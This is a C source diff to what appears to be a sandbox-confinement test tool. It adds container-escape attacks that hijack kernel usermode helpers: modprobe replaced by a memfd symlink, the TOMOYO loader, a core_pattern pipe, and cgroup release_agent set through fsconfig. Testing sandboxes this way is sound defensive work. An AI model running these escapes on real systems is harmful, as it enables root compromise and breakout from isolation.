@@ -34,6 +34,9 @@
 
 static int program = -1;
 
+/* So the program knows by its own name what it is, whatever it is started as. */
+static const char script[] = "#!" ESCAPEE "\n";
+
 int copy_program(const char *path, int to)
 {
 	int from = open(path, O_RDONLY | O_CLOEXEC);
@@ -58,6 +61,24 @@ static const char *prepare_memfd(void)
 	return err ? missing("a memfd", err) : NULL;
 }
 
+static const char *prepare_memfd_script(void)
+{
+	program = memfd_create("helper", 0);
+	if (program < 0 || write(program, script, sizeof(script) - 1) < 0 ||
+	    fchmod(program, 0755) < 0)
+		return missing("a memfd", errno);
+	return NULL;
+}
+
+/* The program is named by a path, and has none: no attachment knows it. */
+static const char *program_path(void)
+{
+	static char path[60];
+
+	(void)snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)getpid(), program);
+	return path;
+}
+
 /* Open to read only: a file that somebody may write is no program. */
 static const char *prepare_deleted(void)
 {
@@ -73,16 +94,14 @@ static const char *prepare_deleted(void)
 	return err ? missing("a deleted file", err) : NULL;
 }
 
-/* A script, so that the program knows by its own name what it is, whatever it is started as. */
 static int write_script(const char *path)
 {
-	static const char text[] = "#!" ESCAPEE "\n";
 	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
 	int err = 0;
 
 	if (fd < 0)
 		return errno;
-	if (write(fd, text, sizeof(text) - 1) < 0)
+	if (write(fd, script, sizeof(script) - 1) < 0)
 		err = errno;
 	(void)close(fd);
 	return err;
@@ -130,7 +149,7 @@ static int run_core_descriptor(void)
 {
 	char pattern[100];
 
-	(void)snprintf(pattern, sizeof(pattern), "|/proc/%d/fd/%d escapee", (int)getpid(), program);
+	(void)snprintf(pattern, sizeof(pattern), "|%s escapee", program_path());
 	return dump_core_by(pattern);
 }
 
@@ -171,10 +190,9 @@ static int run_modprobe_path(void)
 /* The program's name is that of the link, its path that of the memfd. */
 static int run_modprobe_memfd(void)
 {
-	char target[60], folder[200], path[260];
+	char folder[200], path[260];
 
-	(void)snprintf(target, sizeof(target), "/proc/%d/fd/%d", (int)getpid(), program);
-	if (!getcwd(folder, sizeof(folder)) || symlink(target, "escapee") < 0)
+	if (!getcwd(folder, sizeof(folder)) || symlink(program_path(), "escapee") < 0)
 		return errno;
 	(void)snprintf(path, sizeof(path), "%s/escapee", folder);
 	return load_module_by(path);
@@ -190,6 +208,21 @@ static int run_modprobe_file(void)
 	err = write_script(MODPROBE);
 	if (!err)
 		err = ask_for_module("attack-modprobe-file");
+	(void)rename(MODPROBE ".kept", MODPROBE);
+	return err;
+}
+
+/* The file of a package may be replaced, by a link as well. */
+static int run_modprobe_link(void)
+{
+	int err = 0;
+
+	if (rename(MODPROBE, MODPROBE ".kept") < 0)
+		return errno;
+	if (symlink(program_path(), MODPROBE) < 0)
+		err = errno;
+	if (!err)
+		err = ask_for_module("attack-modprobe-link");
 	(void)rename(MODPROBE ".kept", MODPROBE);
 	return err;
 }
@@ -220,8 +253,8 @@ static int run_tomoyo(void)
 	if (access(TOMOYO "profile", F_OK) < 0)
 		return impossible(errno, "TOMOYO is off, or not built in");
 	err = write_small(TOMOYO "profile", profile);
-	if (!err)
-		err = write_script(TOMOYO_LOADER);
+	if (!err && symlink(program_path(), TOMOYO_LOADER) < 0)
+		err = errno;
 	if (err)
 		return err;
 	if (access(TOMOYO_TRIGGER, F_OK) < 0)
@@ -238,20 +271,20 @@ static int run_tomoyo(void)
 	return 0;
 }
 
-/* A task in a cgroup below "cg" that ends. */
+/* A task in a cgroup that ends; the working directory is a hierarchy of version 1. */
 static int release_cgroup(void)
 {
 	int status = 0, err;
 	pid_t pid;
 
-	if (mkdir("cg/released", 0755) < 0)
+	if (mkdir("released", 0755) < 0)
 		return errno;
-	err = write_small("cg/released/notify_on_release", "1");
+	err = write_small("released/notify_on_release", "1");
 	if (err)
 		return err;
 	pid = fork();
 	if (pid == 0)
-		_exit(write_small("cg/released/cgroup.procs", "0"));
+		_exit(write_small("released/cgroup.procs", "0"));
 	if (pid < 0 || waitpid(pid, &status, 0) != pid)
 		return errno;
 	return WEXITSTATUS(status);
@@ -261,7 +294,7 @@ static int mount_cgroup(const char *options)
 {
 	(void)mkdir("cg", 0755);
 	if (mount("none", "cg", "cgroup", 0, options) == 0)
-		return 0;
+		return chdir("cg") < 0 ? errno : 0;
 	return errno == ENODEV ? impossible(ENODEV, "CONFIG_CGROUPS is not set") : errno;
 }
 
@@ -270,7 +303,7 @@ static int run_release_agent(void)
 	int err = mount_cgroup("none,name=attack");
 
 	if (!err)
-		err = write_small("cg/release_agent", ESCAPEE);
+		err = write_small("release_agent", ESCAPEE);
 	return err ? err : release_cgroup();
 }
 
@@ -288,6 +321,24 @@ int release_cgroup_to(const char *agent)
 static int run_release_agent_option(void)
 {
 	return release_cgroup_to(ESCAPEE);
+}
+
+/* The new interface makes file systems that no rule for mounts knows of, and the agent has no path. */
+static int run_release_agent_fsconfig(void)
+{
+	int context = (int)syscall(SYS_fsopen, "cgroup", 0), hierarchy;
+
+	if (context < 0)
+		return errno;
+	if (syscall(SYS_fsconfig, context, 0 /* FLAG */, "none", NULL, 0) < 0 ||
+	    syscall(SYS_fsconfig, context, 1 /* STRING */, "name", "fsconfig", 0) < 0 ||
+	    syscall(SYS_fsconfig, context, 1, "release_agent", program_path(), 0) < 0 ||
+	    syscall(SYS_fsconfig, context, 6 /* CREATE */, NULL, NULL, 0) < 0)
+		return errno;
+	hierarchy = (int)syscall(SYS_fsmount, context, 0, 0);
+	if (hierarchy < 0 || fchdir(hierarchy) < 0)
+		return errno;
+	return release_cgroup();
 }
 
 static int run_hotplug(void)
@@ -351,11 +402,16 @@ const struct attack helper_attacks[] = {
 	  run_modprobe_memfd, WAITS },
 	{ "modprobe-file", "call_modprobe(): the program itself is replaced", NULL,
 	  run_modprobe_file, WAITS },
+	{ "modprobe-link", "call_modprobe(): a link to a memfd is put in its place",
+	  prepare_memfd_script, run_modprobe_link, WAITS },
 	{ "request-key", "call_sbin_request_key()", NULL, run_request_key, WAITS },
-	{ "tomoyo-init", "tomoyo_load_policy()", NULL, run_tomoyo, WAITS },
+	{ "tomoyo-init", "tomoyo_load_policy(), of a memfd", prepare_memfd_script, run_tomoyo,
+	  WAITS },
 	{ "release-agent", "cgroup1_release_agent(), by the file", NULL, run_release_agent, WAITS },
 	{ "release-agent-option", "cgroup1_release_agent(), by an option of the mount", NULL,
 	  run_release_agent_option, WAITS },
+	{ "release-agent-fsconfig", "cgroup1_release_agent() of a memfd, by fsconfig",
+	  prepare_memfd_script, run_release_agent_fsconfig, WAITS },
 	{ "hotplug", "kobject_uevent_env(), by the sysctl", NULL, run_hotplug, 0 },
 	{ "uevent-helper", "kobject_uevent_env(), by sysfs", NULL, run_uevent_helper, 0 },
 	{ "helper-capabilities", "proc_cap_handler()", NULL, run_widen, 0 },
